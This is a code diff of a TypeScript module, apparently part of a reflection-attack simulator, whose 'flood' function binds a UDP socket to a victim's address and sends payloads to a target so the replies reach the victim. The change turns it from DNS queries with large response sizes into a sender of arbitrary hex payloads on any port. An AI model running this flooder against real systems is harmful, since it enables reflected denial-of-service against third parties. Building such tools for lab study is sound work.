@@ -1,17 +1,19 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
-// The attacker: sends each query once and waits for nothing. It needs no raw socket to lie about its address: its host owns the victim's
+// The attacker: sends each message once and waits for nothing. It needs no raw socket to lie about its address: its host owns the victim's
 // address, so that an ordinary socket can be bound to it, and the network routes the answers to the real victim.
 
 import { createSocket } from 'node:dgram'
 import { once } from 'node:events'
+import { isIPv6 } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
-import { encodeQuery, type QueryType } from '../dns.js'
 
 export interface FloodTask {
   /** Whom the packets claim to come from. */
   readonly source: string
   readonly target: string
-  readonly queries: readonly { readonly name: string; readonly type: QueryType }[]
+  readonly port: number
+  /** UDP payloads in hex. */
+  readonly messages: readonly string[]
   /** Between two packets: bounds the rate. */
   readonly gapMilliseconds: number
 }
@@ -20,17 +22,16 @@ export interface FloodResult {
   readonly packets: number
 }
 
-export async function flood({ source, target, queries, gapMilliseconds }: FloodTask): Promise<FloodResult> {
-  const socket = createSocket('udp4')
+export async function flood({ source, target, port, messages, gapMilliseconds }: FloodTask): Promise<FloodResult> {
+  const socket = createSocket(isIPv6(source) ? 'udp6' : 'udp4')
   socket.bind(0, source)
   await once(socket, 'listening')
-  for (const [index, { name, type }] of queries.entries()) {
-    const message = encodeQuery({ id: index & 0xffff, name, type, udpSize: 4096 })
+  for (const message of messages) {
     await new Promise<void>((resolve, reject) => {
-      socket.send(message, 53, target, (error) => (error ? reject(error) : resolve()))
+      socket.send(Buffer.from(message, 'hex'), port, target, (error) => (error ? reject(error) : resolve()))
     })
     await sleep(gapMilliseconds)
   }
   socket.close()
-  return { packets: queries.length }
+  return { packets: messages.length }
 }
